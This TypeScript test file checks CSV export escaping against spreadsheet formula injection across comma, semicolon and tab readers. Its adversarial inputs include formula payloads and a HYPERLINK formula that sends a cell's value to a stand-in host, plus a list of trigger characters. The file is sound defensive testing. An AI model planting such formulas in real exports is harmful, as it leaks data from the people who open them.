import { parse } from 'csv-parse/sync';

import { csvCell, csvRow } from './csv';
import { formulaCells, quoteBlindReadings } from './csv-readings.fixture';

/** The rows of `csv` as an RFC 4180 reader (quotes honoured, `,` separated) reads them. */
const rfc4180 = (csv: string): string[][] => parse(csv, { relax_column_count: true });

/** Every reading of `csv`: the quote-blind `,`, `;` and tab readers, and RFC 4180's. */
const allReadings = (csv: string) => [
  ...quoteBlindReadings(csv),
  { reader: 'RFC 4180 with `,`', cells: rfc4180(csv).flat() },
];

describe('csvCell', () => {
  it.each([
    ['plain', 'plain'],
    ['with, comma', '"with, comma"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['=HYPERLINK("http://x")', '"\'=HYPERLINK(""http://x"")"'],
    ['+1 555 0100', "'+1 555 0100"],
    ['-2', "'-2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tTab', '"\'\tTab"'],
    ['', ''],
  ])('%j -> %j', (input, expected) => expect(csvCell(input)).toBe(expected));

  // OWASP CSV injection: no reader, whatever its list separator, may start a cell with a trigger.
  it.each([
    // Issue 34: a `;` locale splits inside the quotes and starts cells `=1+1` and `@SUM(2+2)`.
    ['y;=1+1;@SUM(2+2)', `"y;'=1+1;'@SUM(2+2)"`],
    ['a\t=1+1', `"a\t'=1+1"`],
    ['a,-1', `"a,'-1"`],
    // A `;` or tab reader ends the row at a quoted line break, so the next line starts a cell.
    ['Hi\n- boats\r\n- sails', `"Hi\n'- boats\r\n'- sails"`],
    ['a\r+1', `"a\r'+1"`],
    // Blanks and quotes before a trigger: a reader may trim them, or open a quoted field.
    ['a; =1', `"a;' =1"`],
    ['a;"=1"', `"a;'""=1"""`],
    // Full-width and small-form triggers, run by Japanese and Chinese locale spreadsheets.
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠SUM(1)', "'＠SUM(1)"],
    ['﹦1+1', "'﹦1+1"],
    ['a;\u3000＝1', `"a;'\u3000＝1"`],
    ['  =1+1', "'  =1+1"],
    ['\u00a0=1+1', "'\u00a0=1+1"],
    // Tab and CR are triggers themselves, and separators or line breaks to some reader.
    ['\r=1+1', `"'\r'=1+1"`],
    ['\n=1+1', `"\n'=1+1"`],
    ['a,\tb', `"a,'\tb"`],
    // Not triggers: text that merely holds one later in a cell.
    ['a=b', 'a=b'],
    ['e-mail', 'e-mail'],
    [
      'Hello, I would like a boat; 12 m, 2 cabins.',
      '"Hello, I would like a boat; 12 m, 2 cabins."',
    ],
  ])('%j -> %j', (input, expected) => expect(csvCell(input)).toBe(expected));

  it('writes dates as ISO 8601 and null as empty', () => {
    expect(csvCell(new Date(Date.UTC(2024, 0, 2, 3, 4, 5)))).toBe('2024-01-02T03:04:05.000Z');
    expect(csvCell(null)).toBe('');
  });
});

/** The same seed every run, so a failing string is the same on the next run. */
function* randomTexts(count: number, alphabet: readonly string[]): Generator<string> {
  let seed = 34;
  const next = () => (seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31);
  for (let i = 0; i < count; i++) {
    const length = next() % 12;
    yield Array.from({ length }, () => alphabet[next() % alphabet.length]).join('');
  }
}

describe('csvRow read with `,`, `;` and tab', () => {
  const TRIGGERS = [...'=+-@\t\r\0＝＋－＠﹦﹢﹣﹫'];
  const SEPARATORS = [',', ';', '\t', '\n', '\r', '\r\n'];
  const BLANKS = [' ', '\u00a0', '\u3000', '"', "'"];
  const TEXT = ['a', '1', 'é', '😀', '\uD800', '\uDC00', 'SUM(1)', 'x@y.z'];

  const adversarial = [
    'y;=1+1;@SUM(2+2)',
    '=HYPERLINK("http://x.example/?"&A1;"click")',
    'Hi,\n- boats\n+ sails\r\n@team',
    '"";=1+1;"",@SUM(1)',
    'a;\t=1\t+1',
    '\uD800;=1,\uDC00;@2',
    '😀;＝1+1,😀\t－1',
    ' \r\n \t=1',
    ...randomTexts(3_000, [...TRIGGERS, ...SEPARATORS, ...BLANKS, ...TEXT]),
  ];

  it('starts no cell with a trigger in any reading, whatever the text', () => {
    const csv = adversarial.map((text, i) => csvRow([i, text, `${text}${text}`, 'x'])).join('');
    const readings = allReadings(csv);
    // The readers find formulas in the same texts written as they are: finding none proves something.
    expect(formulaCells(quoteBlindReadings(adversarial.join('\r\n'))).length).toBeGreaterThan(
      1_000,
    );
    expect(formulaCells(readings)).toEqual([]);
  });

  it("only ever adds `'`: RFC 4180 reads the text back with the marks taken out", () => {
    const rows = rfc4180(adversarial.map((text) => csvRow([text, 'x'])).join(''));
    expect(rows.map(([cell]) => cell?.replaceAll("'", ''))).toEqual(
      // UTF-8 (what the export is sent as, and what the parser reads) carries a lone surrogate as U+FFFD.
      adversarial.map((text) => Buffer.from(text).toString().replaceAll("'", '')),
    );
  });

  it('reads ordinary data back exactly as it was', () => {
    const rows = [
      ['Ana Müller-Lüdenscheidt', 'ana.mueller+boats@example.de', '+49 170 1234567'],
      ['José Ñúñez 😀', 'jose@example.es', 'Hola, quiero un velero; 12 m.\r\nGracias'],
      ['Zoë "Zed" O’Brien', 'zoe@example.ie', 'Line one,\nline two, with "quotes"'],
      ['李小龍', 'li@example.cn', '你好，我想买一艘船。'],
      ['2024-01-02T03:04:05.000Z', '', 'e-mail me at a@b.c; or call'],
    ];
    expect(rfc4180(rows.map(csvRow).join(''))).toEqual(
      // A phone number starting with `+` is a trigger: it alone keeps its `'` mark.
      rows.map(([name, email, text]) => [name, email, text?.replace(/^\+/, "'+")]),
    );
  });
});
